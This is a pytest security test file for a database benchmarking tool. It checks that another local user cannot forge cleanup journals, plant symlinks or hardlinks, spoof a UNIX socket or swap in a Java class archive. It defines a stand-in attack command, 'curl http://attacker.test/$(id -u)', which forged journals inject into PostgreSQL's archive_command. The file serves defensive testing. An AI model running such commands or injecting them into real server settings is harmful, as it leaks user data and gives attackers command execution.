"""What another user of the machine can read, change, and make the bench do: nothing."""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from uuid import uuid4

import psutil
import pytest

from stallbench.engines.postgres.driver import Connection
from stallbench.leftovers import remove_leftovers
from stallbench.pipeline.class_archive import use_archive
from stallbench.pipeline.service import SERVICE_VARIABLE, ask_service
from stallbench.processes.reaper import CLEANUP_JOURNAL, OWNER_FILE, SCRATCH_PREFIX, TOKEN_VARIABLE, find_marked, start_reaper
from stallbench.processes.supervisor import Supervisor
from stallbench.python_command import python_command
from stallbench.records.endpoint import Endpoint
from stallbench.run.folder import create_run_folder
from stallbench.servers.cleanup_journal import CleanupJournal
from stallbench.setup.components import JavaRuntime
from tests.integration.engines import PrivateServers
from tests.security.conftest import OtherUser
from tests.unit.made_up_run import make_record
from tests.unit.test_compose import FOLDER, without_variants
from tests.waiting import wait_for

DEAD = {"pid": 2**22, "process_started_s": 0.0}
THEIRS = "curl http://attacker.test/$(id -u)"
"""A command that an attacker would like the server to run."""


@pytest.fixture
def temporary(shared_folder: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The folder of temporary files, which all users share."""
    monkeypatch.setattr("tempfile.tempdir", str(shared_folder))
    return shared_folder


@pytest.fixture
def server(servers: PrivateServers) -> Endpoint:
    return servers.shared("postgres").endpoint


def journal_of(endpoint: Endpoint) -> str:
    """A cleanup journal that resets a setting to what the attacker wants it to have been."""
    change = {"server": "primary", "endpoint": endpoint.with_password(), "name": "archive_command"}
    return json.dumps({"settings": [{**change, "before": THEIRS, "was_overridden": True}]})


def archive_commands(server: Endpoint, open_connection: Callable[[Endpoint], Connection]) -> list[Any]:
    """What ALTER SYSTEM has set, and what is in force."""
    query = (
        "SELECT setting FROM pg_file_settings WHERE name = 'archive_command' UNION ALL SELECT current_setting('archive_command')"
    )
    return open_connection(server).execute(query).fetchall()


def forge_by(other_user: OtherUser, folder: Path, **files: str) -> None:
    """Let the other user write files, by their names without the suffix."""
    assert other_user.run(["mkdir", "-p", folder]).returncode == 0
    for name, text in files.items():
        path = folder / f"{name.replace('_', '-')}.json"
        assert other_user.run(["sh", "-c", f"cat > {path}"], standard_input=text).returncode == 0


def make_leftover(temporary: Path, endpoint: Endpoint) -> tuple[Path, str]:
    """Make what a run whose bench and reaper were killed leaves; returns its folder and its token."""
    scratch, token = temporary / f"{SCRATCH_PREFIX}own", uuid4().hex
    scratch.mkdir(mode=0o700)
    (scratch / OWNER_FILE).write_text(json.dumps({"token": token, **DEAD}))
    CleanupJournal(scratch).record_setting("primary", endpoint, "archive_command", THEIRS, was_overridden=True)
    return scratch, token


def test_a_run_s_records_are_for_its_user_alone(shared_folder: Path, other_user: OtherUser) -> None:
    run = create_run_folder(without_variants(FOLDER / "scenarios" / "longtx.toml"), shared_folder)
    run.record.write_text("{}")
    assert other_user.run(["ls", shared_folder]).returncode == 0, "the other user reaches the folder of all runs"
    assert "Permission denied" in other_user.run(["cat", run.record]).stderr


class TestClean:
    def test_what_an_own_run_left_is_carried_out(
        self, temporary: Path, server: Endpoint, open_connection: Callable[[Endpoint], Connection]
    ) -> None:
        """So the other tests of this class say something: the same journal, forged, is not."""
        scratch, _ = make_leftover(temporary, server)
        remove_leftovers(temporary / "runs", forget=True)
        assert (THEIRS,) in archive_commands(server, open_connection)
        assert not scratch.exists()
        open_connection(server).execute("ALTER SYSTEM RESET archive_command")

    def test_a_folder_of_another_user_is_not_looked_at(
        self, temporary: Path, other_user: OtherUser, server: Endpoint, open_connection: Callable[[Endpoint], Connection]
    ) -> None:
        forged = temporary / f"{SCRATCH_PREFIX}forged"
        owner = json.dumps({"token": uuid4().hex, **DEAD})
        forge_by(other_user, forged, owner=owner, cleanup_journal=journal_of(server))
        before = archive_commands(server, open_connection)
        assert remove_leftovers(temporary / "runs") == []
        assert archive_commands(server, open_connection) == before
        assert (forged / CLEANUP_JOURNAL).exists()

    @pytest.mark.parametrize("mode", [0o1777, 0o777])
    def test_a_folder_of_ours_that_others_can_write_is_left_and_named(
        self,
        temporary: Path,
        other_user: OtherUser,
        server: Endpoint,
        open_connection: Callable[[Endpoint], Connection],
        mode: int,
    ) -> None:
        scratch = temporary / f"{SCRATCH_PREFIX}open"
        scratch.mkdir()
        scratch.chmod(mode)
        owner = json.dumps({"token": uuid4().hex, **DEAD})
        forge_by(other_user, scratch, owner=owner, cleanup_journal=journal_of(server))
        before = archive_commands(server, open_connection)
        (said,) = remove_leftovers(temporary / "runs")
        assert said == f"left as it is: {scratch}: can be written by every user; expected `chmod o-w`"
        assert archive_commands(server, open_connection) == before

    @pytest.mark.parametrize("file", [OWNER_FILE, CLEANUP_JOURNAL])
    @pytest.mark.parametrize("by", ["symlink", "link"])
    def test_a_file_that_leads_elsewhere_is_not_followed(
        self,
        temporary: Path,
        other_user: OtherUser,
        server: Endpoint,
        open_connection: Callable[[Endpoint], Connection],
        file: str,
        by: str,
    ) -> None:
        """A link in a folder of ours: as after a copy that kept it, or from the time when the folder was open to others."""
        scratch, token = make_leftover(temporary, server)
        target = temporary / "theirs.json"
        forge_by(other_user, temporary, theirs=json.dumps({"token": token, **DEAD}) if file == OWNER_FILE else journal_of(server))
        (scratch / file).unlink()
        if by == "symlink":
            (scratch / file).symlink_to(target)
        else:
            (scratch / file).hardlink_to(target)
        before = archive_commands(server, open_connection)
        remove_leftovers(temporary / "runs")
        assert archive_commands(server, open_connection) == before
        assert scratch.exists()

    def test_a_link_to_a_folder_of_ours_is_not_followed(
        self, temporary: Path, other_user: OtherUser, tmp_path: Path, server: Endpoint
    ) -> None:
        scratch, _ = make_leftover(temporary, server)
        kept = Path(shutil.move(scratch, tmp_path / "kept"))
        assert other_user.run(["ln", "-s", kept, scratch]).returncode == 0
        assert remove_leftovers(temporary / "runs") == []
        assert (kept / CLEANUP_JOURNAL).exists()

    @pytest.mark.parametrize("of", ["spark", "pipeline", "observe", "profile", "torture"])
    def test_a_folder_of_another_user_that_is_named_like_a_dead_process_stays(
        self, temporary: Path, other_user: OtherUser, of: str
    ) -> None:
        forged = temporary / f"{SCRATCH_PREFIX}{of}-{2**22}-x"
        forge_by(other_user, forged, notes="{}")
        assert remove_leftovers(temporary / "runs") == []
        assert (forged / "notes.json").exists()


class TestCleanReports:
    @pytest.fixture
    def runs(self, shared_folder: Path) -> Path:
        runs = shared_folder / "runs"
        runs.mkdir()
        return runs

    @pytest.mark.parametrize(
        "text",
        [
            '{"status": "running"}',
            '{"status": "running", "bench": {"pid": 4194304, "process_started_s": 0}, "mine": 1}',
            "[]",
            "no JSON",
        ],
    )
    @pytest.mark.parametrize("name", ["run", "comparison", "soak", "limit"])
    @pytest.mark.parametrize("folder", ["app", "20300101T000000Z-app"])
    def test_a_folder_with_a_file_of_another_program_is_neither_deleted_nor_rewritten(
        self, temporary: Path, runs: Path, folder: str, name: str, text: str
    ) -> None:
        path = runs / folder / f"{name}.json"
        path.parent.mkdir()
        path.write_text(text)
        state = path.stat()
        said = remove_leftovers(runs, delete_runs=True)
        assert path.read_bytes() == text.encode()
        assert (path.stat().st_mtime_ns, path.stat().st_ino) == (state.st_mtime_ns, state.st_ino)
        assert all(
            sentence.startswith(f"{folder}: kept, because it contains what is no record of this bench: ") for sentence in said
        )

    def test_a_folder_of_another_user_stays(self, temporary: Path, runs: Path, other_user: OtherUser) -> None:
        runs.chmod(0o1777)
        record = json.dumps(make_record(status="running", bench={"version": "0", **DEAD}))
        forge_by(other_user, runs / "20300101T000000Z-theirs", run=record)
        assert remove_leftovers(runs, delete_runs=True) == []
        assert (runs / "20300101T000000Z-theirs" / "run.json").read_text() == record

    def test_what_a_link_leads_to_is_neither_deleted_nor_rewritten(
        self, temporary: Path, runs: Path, tmp_path: Path, other_user: OtherUser
    ) -> None:
        runs.chmod(0o1777)
        record = json.dumps(make_record(status="running", bench={"version": "0", **DEAD}))
        elsewhere = tmp_path / "elsewhere"
        elsewhere.mkdir()
        (elsewhere / "run.json").write_text(record)
        assert other_user.run(["ln", "-s", elsewhere, runs / "20300101T000000Z-link"]).returncode == 0
        own = runs / "20300101T000000Z-own"
        own.mkdir()
        (own / "inner").symlink_to(elsewhere)
        (own / "run.json").symlink_to(elsewhere / "run.json")
        remove_leftovers(runs, delete_runs=True)
        assert (elsewhere / "run.json").read_text() == record

    def test_a_run_of_ours_is_corrected_and_deleted(self, temporary: Path, runs: Path) -> None:
        run = runs / "20300101T000000Z-longtx"
        run.mkdir(mode=0o700)
        (run / "run.json").write_text(json.dumps(make_record(status="running", bench={"version": "0", **DEAD})))
        assert remove_leftovers(runs, delete_runs=True) == [f"{run.name}: marked as aborted", f"{run.name}: deleted"]


@pytest.fixture
def bystander(other_user: OtherUser) -> Iterator[Callable[..., subprocess.Popen[bytes]]]:
    """Starts a process of the other user, with words in its command line and variables in its environment."""
    started: list[subprocess.Popen[bytes]] = []

    def start(*words: str, **variables: str) -> subprocess.Popen[bytes]:
        command = ["sh", "-c", "while :; do sleep 1; done", *words]
        user: dict[str, Any] = {"user": other_user.uid, "group": other_user.gid, "extra_groups": []}
        environment = {"PATH": "/usr/bin:/bin", **variables}
        started.append(subprocess.Popen(command, cwd="/", env=environment, start_new_session=True, **user))
        return started[-1]

    yield start
    for process in started:
        os.killpg(process.pid, signal.SIGKILL)
        process.wait()


class TestReaper:
    def test_a_process_of_another_user_that_carries_the_mark_lives_and_the_journal_is_carried_out(
        self,
        temporary: Path,
        server: Endpoint,
        open_connection: Callable[[Endpoint], Connection],
        bystander: Callable[..., subprocess.Popen[bytes]],
    ) -> None:
        """Whatever it has read of the run: the folder, and, at worst, the token."""
        scratch, token = make_leftover(temporary, server)
        marked = bystander(f"{scratch}/postmaster", f"{TOKEN_VARIABLE}={token}", **{TOKEN_VARIABLE: token})
        assert find_marked(token, scratch) == []
        remove_leftovers(temporary / "runs", forget=True)
        assert marked.poll() is None
        assert (THEIRS,) in archive_commands(server, open_connection)
        open_connection(server).execute("ALTER SYSTEM RESET archive_command")

    def test_a_list_of_processes_that_another_user_has_written_is_not_used(
        self, temporary: Path, other_user: OtherUser, bystander: Callable[..., subprocess.Popen[bytes]]
    ) -> None:
        scratch = temporary / f"{SCRATCH_PREFIX}own"
        scratch.mkdir(mode=0o777)
        scratch.chmod(0o777)
        victim = bystander()
        ticks = Path(f"/proc/{victim.pid}/stat").read_text().rpartition(")")[2].split()[19]
        line = f"{Path('/proc/sys/kernel/random/boot_id').read_text().strip()} {victim.pid} {ticks}\n"
        assert other_user.run(["sh", "-c", f"cat > {scratch}/started"], standard_input=line).returncode == 0
        assert find_marked("a token that none carries", scratch) == []

    def test_a_listed_process_is_not_mistaken_for_a_later_one_of_its_id(self, temporary: Path) -> None:
        scratch = temporary / f"{SCRATCH_PREFIX}own"
        scratch.mkdir(mode=0o700)
        supervisor = Supervisor("a-token", scratch=scratch)
        started = supervisor.start("one", "worker", ["sleep", "1000"], log=temporary / "log")
        try:
            assert [found.pid for found in find_marked("a token that none carries", scratch)] == [started.pid]
            lines = (scratch / "started").read_text().split()
            (scratch / "started").write_text(f"{lines[0]} {lines[1]} {int(lines[2]) + 1}\n")
            assert find_marked("a token that none carries", scratch) == []
        finally:
            started.kill()

    def test_the_token_is_in_no_argument(self, temporary: Path, tmp_path: Path) -> None:
        scratch, token = temporary / f"{SCRATCH_PREFIX}own", uuid4().hex
        scratch.mkdir(mode=0o700)
        with start_reaper(token, record=tmp_path / "run.json", scratch=scratch):
            shown = [process.info["cmdline"] or [] for process in psutil.process_iter(["cmdline"])]
            assert any("stallbench.processes.reaper" in words for words in shown)
            assert not any(token in word for words in shown for word in words)
            assert (scratch / OWNER_FILE).stat().st_mode & 0o077 == 0


class TestPipelineService:
    """The socket by which commands let one Spark make their tables."""

    def test_the_socket_of_another_user_is_not_asked(
        self, shared_folder: Path, other_user: OtherUser, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
    ) -> None:
        """He would say that the tables are made, and learn where the runs are."""
        path = shared_folder / "service"
        says = (
            f"import socket as s, os; l = s.socket(s.AF_UNIX); l.bind({str(path)!r}); os.chmod({str(path)!r}, 0o777); l.listen()"
        )
        answers = "c, _ = l.accept(); c.sendall(b'made\\n'); print(c.recv(1000).decode(), flush=True)"
        user: dict[str, Any] = {"user": other_user.uid, "group": other_user.gid, "extra_groups": []}
        theirs = subprocess.Popen(
            ["/usr/bin/python3", "-c", f"{says}; {answers}"], cwd="/", stdout=subprocess.PIPE, text=True, **user
        )
        try:
            wait_for(path.exists, "the socket")
            monkeypatch.setenv(SERVICE_VARIABLE, str(path))
            assert not ask_service(shared_folder / "a-run", 60)
            assert theirs.communicate(timeout=60)[0].strip() == ""
        finally:
            theirs.kill()
        assert f"{path} is served by another user" in capfd.readouterr().err

    def test_another_user_is_not_answered(self, shared_folder: Path, other_user: OtherUser) -> None:
        """Also if he can reach the socket, in a folder whose mode was changed later, for example."""
        path = shared_folder / "service"
        service = subprocess.Popen(python_command("stallbench.pipeline.service", str(path)))
        try:
            wait_for(path.exists, "the socket")
            ask = (
                f"import socket as s; c = s.socket(s.AF_UNIX); c.connect({str(path)!r}); c.sendall(b'/etc\\n'); print(c.recv(99))"
            )
            assert "PermissionError" in other_user.run(["/usr/bin/python3", "-c", ask]).stderr
            path.chmod(0o777)
            said = other_user.run(["/usr/bin/python3", "-c", ask])
            assert said.stdout == "b''\n" or "Connection reset" in said.stderr or "Broken pipe" in said.stderr
        finally:
            service.terminate()
            service.wait()


@pytest.mark.parametrize("by", ["owner", "mode", "folder", "link"])
def test_an_archive_of_classes_that_another_user_could_have_written_is_not_used(
    shared_folder: Path, other_user: OtherUser, monkeypatch: pytest.MonkeyPatch, by: str
) -> None:
    """It is code that Java executes."""
    folder = shared_folder / "spark"
    folder.mkdir(mode=0o755)
    archive = folder / "classes.jsa"
    archive.write_text("classes")
    archive.chmod(0o644)
    monkeypatch.setattr("stallbench.pipeline.class_archive.archive_path", lambda _: archive)
    java = JavaRuntime(home=Path("/"), version="17")
    assert f"-XX:SharedArchiveFile={archive}" in use_archive(java)
    if by == "owner":
        os.chown(archive, other_user.uid, -1)
    elif by == "mode":
        archive.chmod(0o666)
    elif by == "folder":
        folder.chmod(0o777)
    else:
        theirs = shared_folder / "theirs.jsa"
        assert other_user.run(["cp", archive, theirs]).returncode == 0
        archive.unlink()
        archive.symlink_to(theirs)
    assert use_archive(java) == []
